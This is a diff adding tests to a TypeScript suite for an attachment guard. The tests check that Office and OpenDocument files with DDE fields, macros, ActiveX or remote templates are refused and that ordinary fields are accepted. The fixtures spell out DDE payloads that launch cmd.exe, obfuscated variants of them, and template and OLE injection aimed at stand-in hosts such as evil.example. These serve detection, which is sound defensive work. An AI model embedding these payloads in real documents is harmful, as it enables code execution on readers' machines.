@@ -16,7 +16,7 @@ import { collectEvidence } from '../../src/lib/oit/evidence.ts';
 import { assessCatalogue } from '../../src/lib/oit/status.ts';
 import { checkAttachmentType } from '../../src/lib/guards/attachment-type.ts';
 import { problemText } from '../../src/i18n/problems.ts';
-import { bytesOf, pdfWith, simplePdf } from '../helpers/attachment-bytes.ts';
+import { bytesOf, compoundFile, ooxml, openDocument, pdfWith, simplePdf } from '../helpers/attachment-bytes.ts';
 
 const sites: ScratchSite[] = [];
 afterAll(async () => Promise.all(sites.map((site) => site.remove())));
@@ -612,5 +612,184 @@ describe('CSV attachments carry no formula that reaches out (what staff publish 
     expect(problems).toEqual([
       expect.objectContaining({ file: expect.stringMatching(/procurement-plan-2567\.csv$/), th: expect.stringContaining('บรรทัด 3 คอลัมน์ 2') }),
     ]);
+  });
+});
+
+describe('Office attachments that act on the reader are refused (DDE, macros, ActiveX, template injection); fields and links stay allowed', () => {
+  const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
+  const body = (runs: string) => `<w:document ${w}><w:body><w:p>${runs}</w:p></w:body></w:document>`;
+  const run = (inner: string) => `<w:r>${inner}</w:r>`;
+  const begin = run('<w:fldChar w:fldCharType="begin"/>');
+  const separate = run('<w:fldChar w:fldCharType="separate"/>');
+  const end = run('<w:fldChar w:fldCharType="end"/>');
+  const instr = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
+  const field = (...instructions: string[]) => `${begin}${instructions.map(instr).join('')}${separate}${run('<w:t>1</w:t>')}${end}`;
+  const docx = (document: string, more: Record<string, string> = {}) => ooxml('docx', { 'word/document.xml': document, ...more });
+  const xlsx = (parts: Record<string, string>) => ooxml('xlsx', { 'xl/workbook.xml': '<workbook/>', ...parts });
+  const sheet = (formula: string) => `<worksheet><sheetData><row r="1"><c r="A1"><f>${formula}</f><v>0</v></c></row></sheetData></worksheet>`;
+  const externalRelationship = (type: string, target: string) =>
+    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
+
+  const activeOfficeProblems = async (name: string, bytes: Uint8Array) => {
+    const check = await checkAttachmentType(name, bytes);
+    return check.ok ? [] : check.problems.filter((problem) => problem.key === 'attachment.office-active-content').map((problem) => problem.params);
+  };
+
+  it.each<[string, string, Uint8Array, string[]]>([
+    ['a simple DDEAUTO field', 'notice.docx', docx(body(`<w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'/>`)), ['dde']],
+    ['DDEAUTO split over runs', 'notice.docx', docx(body(field(' DD', 'EAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc"'))), ['dde']],
+    [
+      'DDE in lower case, in a header',
+      'notice.docx',
+      docx(body(''), { 'word/header1.xml': `<w:hdr ${w}><w:p>${field('dde "cmd" "/c calc"')}</w:p></w:hdr>` }),
+      ['dde'],
+    ],
+    ['DDE written with a character reference (&#68;DE)', 'notice.docx', docx(body(field('&#68;DE cmd "/c calc" "x"'))), ['dde']],
+    [
+      'a field name built by a nested QUOTE field',
+      'notice.docx',
+      docx(body(`${begin}${field('QUOTE 68 68 69 65 85 84 79')}${instr(' "c:\\\\cmd.exe" "/k calc"')}${separate}${end}`)),
+      ['dde'],
+    ],
+    [
+      'an Excel DDE link',
+      'sheet.xlsx',
+      xlsx({ 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }),
+      ['dde'],
+    ],
+    ['an Excel cmd| formula', 'sheet.xlsx', xlsx({ 'xl/worksheets/sheet1.xml': sheet("cmd|' /C calc'!A0") }), ['dde']],
+    [
+      'an OpenDocument DDE() formula',
+      'sheet.ods',
+      openDocument('ods', {
+        'content.xml':
+          '<office:document-content><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;c:\\cmd.exe&quot;;&quot;&quot;)"/></office:document-content>',
+      }),
+      ['dde'],
+    ],
+    [
+      'an OpenDocument DDE link',
+      'notice.odt',
+      openDocument('odt', {
+        'content.xml':
+          '<office:document-content><text:dde-connection-decls><text:dde-connection-decl office:dde-application="cmd"/></text:dde-connection-decls></office:document-content>',
+      }),
+      ['dde'],
+    ],
+    ['a VBA project inside a .docx', 'notice.docx', docx(body(''), { 'word/vbaProject.bin': 'x' }), ['macros']],
+    [
+      'Basic macros in an OpenDocument file',
+      'notice.odt',
+      openDocument('odt', { 'content.xml': '<office:document-content/>', 'Basic/Standard/Module1.xml': '<module/>' }),
+      ['macros'],
+    ],
+    [
+      'a macro bound to an OpenDocument event',
+      'notice.odt',
+      openDocument('odt', {
+        'content.xml':
+          '<office:document-content><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:document-content>',
+      }),
+      ['macros'],
+    ],
+    ['ActiveX controls', 'notice.docx', docx(body(''), { 'word/activeX/activeX1.xml': '<ax:ocx/>' }), ['activex']],
+    [
+      'a template fetched from another address',
+      'notice.docx',
+      docx(body(''), { 'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', 'https://evil.example/t.dotm') }),
+      ['remote-content'],
+    ],
+    [
+      "a template on another computer's share (UNC)",
+      'notice.docx',
+      docx(body(''), { 'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', '\\\\evil.example\\share\\t.dotm') }),
+      ['remote-content'],
+    ],
+    [
+      'a template behind file://host/',
+      'notice.docx',
+      docx(body(''), { 'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', 'file://evil.example/share/t.dotm') }),
+      ['remote-content'],
+    ],
+    [
+      'an object fetched from another address',
+      'slides.pptx',
+      ooxml('pptx', {
+        'ppt/slides/slide1.xml': '<p:sld/>',
+        'ppt/slides/_rels/slide1.xml.rels': externalRelationship('oleObject', 'file://evil.example/share/x.xls'),
+      }),
+      ['remote-content'],
+    ],
+    ['macros in a legacy .doc', 'notice.doc', compoundFile(['WordDocument', 'Macros', 'VBA']), ['macros']],
+    ['macros in a legacy .xls', 'sheet.xls', compoundFile(['Workbook', '_VBA_PROJECT_CUR']), ['macros']],
+    [
+      'all at once, in a fixed order',
+      'notice.docx',
+      docx(body(field('DDEAUTO cmd')), {
+        'word/vbaProject.bin': 'x',
+        'word/activeX/activeX1.xml': '<ax:ocx/>',
+        'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', 'https://evil.example/t.dotm'),
+      }),
+      ['dde', 'macros', 'activex', 'remote-content'],
+    ],
+  ])('refuses %s', async (_name, fileName, bytes, found) => {
+    expect(await activeOfficeProblems(fileName, bytes)).toEqual([{ path: fileName, found }]);
+  });
+
+  it('refuses an active Office file inside a ZIP, naming the file inside', async () => {
+    const archive = zipSync({ 'docs/notice.docx': docx(body(field('DDEAUTO cmd "/c calc"'))) });
+    const check = await checkAttachmentType('bundle.zip', archive);
+    expect(check.ok ? [] : check.problems).toEqual([
+      { key: 'attachment.office-active-content', params: { path: 'bundle.zip', inArchive: 'docs/notice.docx', found: ['dde'] } },
+    ]);
+  });
+
+  it.each<[string, string, Uint8Array]>([
+    [
+      'ordinary fields (PAGE, TOC, MERGEFIELD, a hyperlink)',
+      'notice.docx',
+      docx(body(`${field(' PAGE ')}${field('TOC \\o "1-3"')}${field('MERGEFIELD ชื่อ')}${field('HYPERLINK "https://www.nacc.go.th/"')}`)),
+    ],
+    ['the word DDEAUTO as text, not a field', 'notice.docx', docx(body(run('<w:t>DDEAUTO คือคำสั่งที่ระบบตรวจ</w:t>')))],
+    [
+      'a field whose result, not its instruction, says DDE',
+      'notice.docx',
+      docx(body(`${begin}${instr(' QUOTE "x" ')}${separate}${run('<w:t>DDE</w:t>')}${end}`)),
+    ],
+    [
+      'a hyperlink to another site',
+      'notice.docx',
+      docx(body(''), { 'word/_rels/document.xml.rels': externalRelationship('hyperlink', 'https://www.nacc.go.th/') }),
+    ],
+    [
+      "a template on the author's own disk, as Word writes it",
+      'notice.docx',
+      docx(body(''), {
+        'word/_rels/settings.xml.rels': externalRelationship(
+          'attachedTemplate',
+          'file:///C:\\Users\\staff\\AppData\\Roaming\\Microsoft\\Templates\\แบบฟอร์ม.dotx',
+        ),
+      }),
+    ],
+    ['an embedded workbook', 'notice.docx', docx(body(''), { 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': 'x' })],
+    ['formulas, one with a | inside its text', 'sheet.xlsx', xlsx({ 'xl/worksheets/sheet1.xml': sheet('SUM(A2:A9)&amp;CONCATENATE("a|b",B1)') })],
+    [
+      'an OpenDocument sum and an empty scripts element',
+      'sheet.ods',
+      openDocument('ods', {
+        'content.xml': '<office:document-content><office:scripts/><table:table-cell table:formula="of:=SUM([.A1:.A3])"/></office:document-content>',
+      }),
+    ],
+    ['a legacy .doc without macros', 'notice.doc', compoundFile(['WordDocument', '1Table', 'SummaryInformation'])],
+  ])('accepts %s', async (_name, fileName, bytes) => {
+    expect(await checkAttachmentType(fileName, bytes)).toMatchObject({ ok: true });
+  });
+
+  it('tells staff in Thai what the file holds and to attach a PDF instead', () => {
+    const text = problemText('attachment.office-active-content', { path: 'documents/2567/notice.docx', found: ['dde', 'macros'] });
+    expect(text.th).toContain('ไฟล์แนบ "documents/2567/notice.docx"');
+    expect(text.th).toContain('DDE');
+    expect(text.th).toContain('มาโคร');
+    expect(text.fixTh).toContain('บันทึกเป็น PDF');
   });
 });
